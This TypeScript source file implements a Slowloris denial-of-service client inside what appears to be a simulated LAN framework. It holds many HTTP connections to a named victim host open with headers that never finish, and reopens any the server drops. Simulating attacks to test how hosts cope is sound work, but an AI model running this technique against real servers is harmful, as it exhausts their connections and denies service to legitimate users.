import type { Tcp } from "../../src/host/index.js";
import { encodeUtf8 } from "../../src/host/index.js";
import { milliseconds, type Duration } from "../duration.js";
import type { App } from "../lan/lan-host.js";

const HTTP_PORT = 80;
const DEFAULT_CONNECTIONS = 20;
const DEFAULT_INTERVAL: Duration = "5s";
/** Between two looks for connections that the other side has ended. */
const RETRY: Duration = "1s";
/** A head that never ends: what follows is one more field, letter by letter. */
const BEGINNING = "GET / HTTP/1.1\r\nHost: device\r\nX-Slow: ";

export interface SlowClientOptions {
  /** The host that is attacked, by its name. */
  readonly victim: string;
  /** Absent: 80. */
  readonly port?: number;
  /** Held open at a time; absent: 20. */
  readonly connections?: number;
  /** From one byte to the next on each; absent: five seconds. */
  readonly every?: Duration;
}

export interface SlowClient {
  /** Connections that it has now. */
  readonly open: number;
  /** Connections that it has begun so far. */
  readonly begun: number;
  /** How many of them the other side has ended. */
  readonly ended: number;
}

/**
 * Holds connections to a server with requests that never end, a byte now and then, and begins another for each that the server
 * ends: a server that waits for each as long as it likes has no place left for anybody else ("Slowloris").
 */
export function slowClient({
  victim,
  port = HTTP_PORT,
  connections = DEFAULT_CONNECTIONS,
  every = DEFAULT_INTERVAL,
}: SlowClientOptions): App<SlowClient> {
  const interval = milliseconds(every);
  return ({ stack, timers }, { lan }) => {
    const open = new Set<Tcp>();
    const app = {
      begun: 0,
      ended: 0,
      get open() {
        return open.size;
      },
    };
    const begin = (address: string): void => {
      app.begun++;
      let isWritable = false;
      const socket = new stack.io.TCP({
        address,
        port,
        onWritable() {
          if (isWritable) return;
          isWritable = true;
          this.write(encodeUtf8(BEGINNING));
          timers.set(() => drip(this), interval);
        },
        onError() {
          app.ended++;
          open.delete(this);
          this.close();
        },
      });
      open.add(socket);
    };
    const drip = (socket: Tcp): void => {
      if (!open.has(socket)) return;
      socket.write(encodeUtf8("a"));
      timers.set(() => drip(socket), interval);
    };
    const fill = (): void => {
      timers.set(fill, milliseconds(RETRY));
      const address = lan.find(victim).network.ipv4?.address.toString();
      if (address === undefined) return;
      while (open.size < connections) begin(address);
    };
    timers.set(fill, 0);
    return app;
  };
}
